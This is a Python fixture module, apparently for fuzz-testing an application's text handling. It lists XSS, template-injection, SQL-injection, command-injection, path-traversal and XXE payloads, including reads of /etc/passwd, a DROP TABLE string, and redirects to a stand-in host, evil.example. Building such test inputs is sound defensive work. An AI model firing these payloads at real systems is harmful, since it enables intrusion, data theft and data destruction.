"""Texts that try to be more than texts: markup, scripts, templates, addresses, queries, signs that deceive parsers."""

from __future__ import annotations

from itertools import product

ACTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>", "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>", "<object data=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip
BEFORE = ("", '">', "'>", "</title>", "</script>", "-->", "</textarea></select></style>")
OTHERS = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example",
    "{{7*7}}", "{{config}}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{0.__class__}", "{seat}", "{name}", "%(name)s", "%s%s%n", "$(id)", "`id`", "; ls",
    "| cat /etc/passwd",
    "' OR '1'='1", "'; DROP TABLE tables; --", '" OR ""="', "1) UNION SELECT start FROM tables --", "%27%20OR%201=1",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "\\x3cscript\\x3e", "onmouseover=alert(1)", "'-alert(1)-'", '"-alert(1)-"', "\\'-alert(1)//", "*/alert(1)/*",
    "<b>bold</b>", "<!--", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>",
    "A: pass", "B: place agriculture", "fate: reveal ticket", "seed: 1", "# comment", "\\n\\n0. A: pass", "null", "NaN",
    "__proto__", "constructor", "toString", "undefined", "[object Object]", "true", "-1", "1e999",
)  # fmt: skip
PAYLOADS = [*(before + act for act, before in product(ACTS, BEFORE)), *OTHERS]
NAMES = list(dict.fromkeys(text[:24].strip() for text in [*ACTS, *OTHERS]))  # as long as a name may be
